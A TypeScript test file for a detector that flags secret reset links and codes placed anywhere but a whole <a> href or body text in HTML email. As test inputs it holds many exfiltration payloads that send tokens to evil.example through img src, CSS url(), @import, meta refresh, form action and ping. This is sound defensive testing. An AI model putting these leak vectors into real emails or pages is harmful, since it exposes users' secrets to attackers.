// Where a secret's sentinel may sit in rendered HTML: the whole quoted href of an <a> (links) or
// body text; everything else is refused, including the places a mail client loads by itself.
import { describe, expect, it } from '@jest/globals';
import { misplacedSecrets, type SecretSentinel } from './secret-placement.ts';

const LINK = 'zqlink0123456789abcdef';
const CODE = 'zqcode0123456789abcdef';
const sentinels: SecretSentinel[] = [
  { field: 'link', token: LINK, mayBeHref: true },
  { field: 'code', token: CODE, mayBeHref: false },
];
const doc = (body: string, head = '<title>Hi</title><style>a { color: red; }</style>') =>
  `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;

describe('allowed places', () => {
  it.each([
    ['the whole href of an <a>', `<a href="${LINK}">Reset</a>`],
    ['single quotes, spacing and upper case', `<A class="b" HREF = '${LINK}' target="_blank">x</A>`],
    ['body text', `<p>Open ${LINK} or enter <b>${CODE}</b></p>`],
    ['text after a style element in the body', `<style>p{}</style><div>${CODE}</div>`],
    ['text inside a link to somewhere else', `<a href="https://example.com/">${LINK}</a>`],
    ['both, several times', `<a href="${LINK}">${LINK}</a><p>${CODE}</p><a href="${LINK}">again</a>`],
    ['a ">" inside an earlier attribute value', `<a title="a > b" href="${LINK}">x</a>`],
  ])('%s', (_, body) => {
    expect(misplacedSecrets(doc(body), sentinels)).toEqual([]);
  });

  it('finds nothing to check when no sentinel is present', () => {
    expect(misplacedSecrets('<img src="https://evil.example/x">', sentinels)).toEqual([]);
  });
});

describe('refused places', () => {
  it.each([
    ['img src', `<img src="https://evil.example/p.png?x=${LINK}">`, 'in the "src" attribute of <img>'],
    ['unquoted img src', `<img src=https://evil.example/?${LINK}>`, 'in the "src" attribute of <img>'],
    ['srcset', `<img srcset="https://evil.example/${CODE} 1x">`, 'in the "srcset" attribute of <img>'],
    ['background', `<td background="https://evil.example/${LINK}">x</td>`, 'in the "background" attribute'],
    ['style attribute', `<div style="background:url(https://evil.example/${CODE})">x</div>`, '"style"'],
    ['form action', `<form action="https://evil.example/${LINK}"></form>`, '"action"'],
    ['video poster', `<video poster="https://evil.example/${LINK}"></video>`, '"poster"'],
    ['data attribute', `<p data-x="${CODE}">x</p>`, '"data-x"'],
    ['alt text', `<img alt="${CODE}" src="https://example.com/logo.png">`, '"alt"'],
    [
      'link href that is not <a>',
      `<link rel="prefetch" href="${LINK}">`,
      'in the "href" attribute of <link>',
    ],
    ['area href', `<area href="${LINK}">`, 'in the "href" attribute of <area>'],
    ['a prefix in an <a> href', `<a href="https://evil.example/${LINK}">x</a>`, 'not as its whole'],
    ['a suffix in an <a> href', `<a href="${LINK}?x=1">x</a>`, 'not as its whole'],
    ['an unquoted <a> href', `<a href=${LINK}>x</a>`, 'not as its whole'],
    ['an <a> with ping', `<a href="${LINK}" ping="https://evil.example/">x</a>`, 'ping'],
    ['a code as an href', `<a href="${CODE}">x</a>`, 'only a link may be one'],
    ['body style element', `<style>p { background: url(https://evil.example/${LINK}) }</style>`, '<style>'],
    ['script', `<script>var s = "</style>${CODE}";</script>`, 'inside <script>'],
    ['textarea', `<textarea>${CODE}</textarea>`, 'inside <textarea>'],
    ['a comment', `<!-- ${CODE} -->`, 'in an HTML comment'],
    ['an Outlook conditional comment', `<!--[if mso]><a href="${LINK}">x</a><![endif]-->`, 'comment'],
    ['svg text', `<svg><text>${CODE}</text></svg>`, 'in the text of <svg>'],
    ['template', `<template><p>${CODE}</p></template>`, 'in the text of <template>'],
    ['a tag name', `<x${CODE}>`, 'in a tag name'],
    ['an attribute name', `<p ${CODE}="1">`, 'in an attribute name'],
  ])('%s', (_, body, where) => {
    const found = misplacedSecrets(doc(body), sentinels);
    expect(found).toHaveLength(1);
    expect(found[0]?.where).toContain(where);
  });

  it('refuses the head: title, style, meta, and stray text', () => {
    for (const head of [
      `<title>${CODE}</title>`,
      `<style>@import url(https://evil.example/${LINK});</style>`,
      `<meta http-equiv="refresh" content="0;url=https://evil.example/${LINK}">`,
      `<base href="https://example.com/">${CODE}`,
      `<a href="${LINK}">x</a>`,
    ]) {
      expect({ head, found: misplacedSecrets(doc('<p>x</p>', head), sentinels).length }).toEqual({
        head,
        found: 1,
      });
    }
  });

  it('reports one issue per field and place, and keeps the allowed ones allowed', () => {
    const html = doc(
      `<a href="${LINK}">ok</a><img src="https://evil.example/${LINK}"><img src="https://evil.example/2/${LINK}"><p>${CODE}</p>`,
    );
    expect(misplacedSecrets(html, sentinels)).toEqual([
      { field: 'link', where: 'in the "src" attribute of <img>' },
    ]);
  });

  it('refuses a sentinel in a tag that never ends', () => {
    expect(misplacedSecrets(`<p>ok</p><img src="https://evil.example/${LINK}`, sentinels)).toHaveLength(1);
  });
});
